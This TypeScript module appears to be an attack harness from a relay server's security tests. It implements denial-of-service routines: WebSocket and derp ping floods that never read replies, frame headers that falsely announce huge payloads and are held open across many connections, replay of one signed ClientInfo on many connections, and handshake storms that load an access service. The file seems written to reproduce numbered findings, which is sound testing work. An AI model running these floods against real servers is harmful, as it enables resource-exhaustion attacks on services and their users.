/**
 * @module
 * Attacks on the relay port: WebSocket and derp ping floods that never
 * read, frame headers announcing more than they bring, a signed 0.35
 * ClientInfo replayed on many connections, and handshakes that each make the
 * relay ask its access service.
 */

import { ATTACKER, attackerSources, AttackSocket, closedByServer, connectMany, destroyAll } from "../support/sock.ts";
import {
  cat,
  clientInfoPayload,
  DERP,
  derpFrame,
  derpHeader,
  headEnd,
  newIdentity,
  type UpgradeKind,
  upgradeRequest,
  WS,
  wsFrame,
  wsHeader,
} from "../support/wire.ts";
import { type AttackReport, type Bounds, over, pause, report } from "./common.ts";

/** Sends the `/relay` upgrade of `kind` and waits for the 101. */
export async function upgrade(s: AttackSocket, kind: UpgradeKind, timeoutMs = 5000): Promise<boolean> {
  await s.write(upgradeRequest(kind));
  const ok = await s.readUntil((b) => headEnd(b) >= 0, timeoutMs);
  return ok && s.text().startsWith("HTTP/1.1 101");
}

/**
 * WebSocket ping flood without reading (finding 1): upgrade on `/relay`
 * (1.x or 0.35 WebSocket), then 125-byte pings as fast as the socket takes
 * them, never reading a pong. Stops when the server disconnects us, after
 * `maxBytes`, or at the bound. `notes.closedAfterBytes` is what the server
 * took before cutting us off.
 */
export async function wsPingFlood(
  port: number,
  kind: "v1x" | "ws035",
  b: Bounds & { maxBytes?: number; source?: string },
): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, b.source ?? ATTACKER);
  if (!await upgrade(s, kind)) {
    s.destroy();
    throw new Error(`upgrade refused: ${s.text().split("\r\n")[0]}`);
  }
  s.stopReading();
  const ping = wsFrame(WS.ping, new Uint8Array(125).fill(0x61));
  const batch = cat(...Array.from({ length: 512 }, () => ping)); // 67 KiB
  let sent = 0;
  while (s.open && !over(b, t0) && sent < (b.maxBytes ?? 2 ** 32)) {
    await s.write(batch);
    sent += batch.length;
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent, notes: { kind } });
}

/**
 * Relay-level Ping flood without reading: a 0.35 derp client authenticates
 * (signed ClientInfo) and sends derp Ping frames (type 12) as fast as it
 * can; every Pong the relay owes us is an outgoing frame that must be capped.
 */
export async function derpPingFlood(port: number, b: Bounds & { maxBytes?: number }): Promise<AttackReport> {
  const t0 = performance.now();
  const s = await AttackSocket.connect(port, ATTACKER);
  if (!await upgrade(s, "derp")) throw new Error("derp upgrade refused");
  await s.write(derpFrame(DERP.clientInfo, clientInfoPayload(newIdentity().secret)));
  s.stopReading();
  const ping = derpFrame(DERP.ping, new Uint8Array(8).fill(7));
  const batch = cat(...Array.from({ length: 4096 }, () => ping)); // 52 KiB
  let sent = 0;
  while (s.open && !over(b, t0) && sent < (b.maxBytes ?? 2 ** 32)) {
    await s.write(batch);
    sent += batch.length;
  }
  const closed = s.closedByPeer;
  s.destroy();
  return report({ t0, connections: 1, closedByServer: closed ? 1 : 0, bytesSent: sent });
}

/** How a lying frame header is spelled. */
export type AnnounceKind = "derp" | "ws16" | "ws64" | "ws64huge";

/**
 * Headers that announce far more than they bring (finding 2): on each of
 * `connections` connections (spread over `sources` attacker addresses), the
 * upgrade, then a frame header announcing 1 MiB (`ws16`: 65535 bytes,
 * `ws64huge`: 2^62) and 16 bytes of it. The connections are held until
 * the bound, then closed. `notes.heldAtEnd` is how many the server kept.
 */
export async function announcedLengthFlood(
  port: number,
  kind: AnnounceKind,
  b: Bounds & { connections: number; sources?: number; holdMs?: number; waves?: number; onHeld?: () => Promise<void> },
): Promise<AttackReport> {
  // Earlier waves, opened and closed: after large buffers were freed, the
  // allocator serves the next ones from its heap (zeroed, so resident)
  // rather than fresh lazily-mapped pages. The first run of the finding
  // showed the growth only from the third wave of 2,000 on.
  for (let w = 1; w < (b.waves ?? 1) && !b.signal?.aborted; w++) {
    await announcedLengthFlood(port, kind, { ...b, waves: 1, holdMs: 0, onHeld: async () => {} });
  }
  const t0 = performance.now();
  const sources = attackerSources(b.sources ?? 10);
  const { sockets, failed } = await connectMany(port, b.connections, sources, {
    concurrency: 32,
    deadline: Date.now() + b.durationMs,
  });
  const header = kind === "derp"
    ? derpHeader(DERP.clientInfo, 1 << 20)
    : kind === "ws16"
    ? wsHeader(WS.binary, 65535, 16)
    : kind === "ws64"
    ? wsHeader(WS.binary, 1 << 20, 64)
    : wsHeader(WS.binary, 1n << 62n, 64);
  const lie = cat(header, new Uint8Array(16).fill(0x41));
  const upgradeKind: UpgradeKind = kind === "derp" ? "derp" : "v1x";
  let sent = 0;
  let upgraded = 0;
  let i = 0;
  await Promise.all(Array.from({ length: 32 }, async () => {
    while (i < sockets.length && !over(b, t0)) {
      const s = sockets[i++]!;
      if (await upgrade(s, upgradeKind).catch(() => false)) {
        upgraded++;
        await s.write(lie);
        sent += lie.length;
      }
    }
  }));
  await b.onHeld?.();
  await pause(Math.max(0, Math.min(b.holdMs ?? 0, b.durationMs - (performance.now() - t0))), b.signal);
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    bytesSent: sent,
    notes: { upgraded, heldAtEnd: sockets.length - closed },
  });
}

/**
 * One 0.35 ClientInfo, signed once, replayed on `n` derp connections (second
 * run, log flooding): each new connection with the same key replaces the
 * previous one. Connections are opened `concurrency` at a time from
 * `sources` addresses and each is held until the server closes it or 2 s.
 */
export async function replayClientInfo(
  port: number,
  b: Bounds & { n: number; sources?: number; concurrency?: number },
): Promise<AttackReport> {
  const t0 = performance.now();
  const frame = derpFrame(DERP.clientInfo, clientInfoPayload(newIdentity().secret));
  const sources = attackerSources(b.sources ?? 8);
  let opened = 0, failed = 0, closed = 0, next = 0;
  await Promise.all(Array.from({ length: b.concurrency ?? 16 }, async () => {
    while (next < b.n && !over(b, t0)) {
      const k = next++;
      let s: AttackSocket;
      try {
        s = await AttackSocket.connect(port, sources[k % sources.length]!, 2000);
      } catch {
        failed++;
        continue;
      }
      opened++;
      if (await upgrade(s, "derp", 2000).catch(() => false)) {
        await s.write(frame);
        await s.readUntil(() => false, 50);
      }
      if (s.closedByPeer) closed++;
      s.destroy();
    }
  }));
  return report({ t0, connections: opened, connectFailures: failed, closedByServer: closed });
}

/**
 * Handshakes that each make the relay ask its access service (`access.http`):
 * `n` derp clients with fresh keys (a valid signed ClientInfo each), opened
 * `concurrency` at a time from `sources` addresses and held until the
 * server closes them or the bound. `onHeld` runs once all were sent.
 */
export async function accessCheckStorm(
  port: number,
  b: Bounds & { n: number; sources?: number; concurrency?: number; onHeld?: () => Promise<void> },
): Promise<AttackReport> {
  const t0 = performance.now();
  const { sockets, failed } = await connectMany(port, b.n, attackerSources(b.sources ?? 5), {
    concurrency: b.concurrency ?? 50,
    deadline: Date.now() + b.durationMs,
  });
  let upgraded = 0;
  let next = 0;
  await Promise.all(Array.from({ length: b.concurrency ?? 50 }, async () => {
    while (next < sockets.length && !over(b, t0)) {
      const s = sockets[next++]!;
      if (await upgrade(s, "derp", 3000).catch(() => false)) {
        upgraded++;
        await s.write(derpFrame(DERP.clientInfo, clientInfoPayload(newIdentity().secret)));
      }
    }
  }));
  await b.onHeld?.();
  const closed = closedByServer(sockets);
  destroyAll(sockets);
  return report({
    t0,
    connections: sockets.length,
    connectFailures: failed,
    closedByServer: closed,
    notes: { upgraded },
  });
}
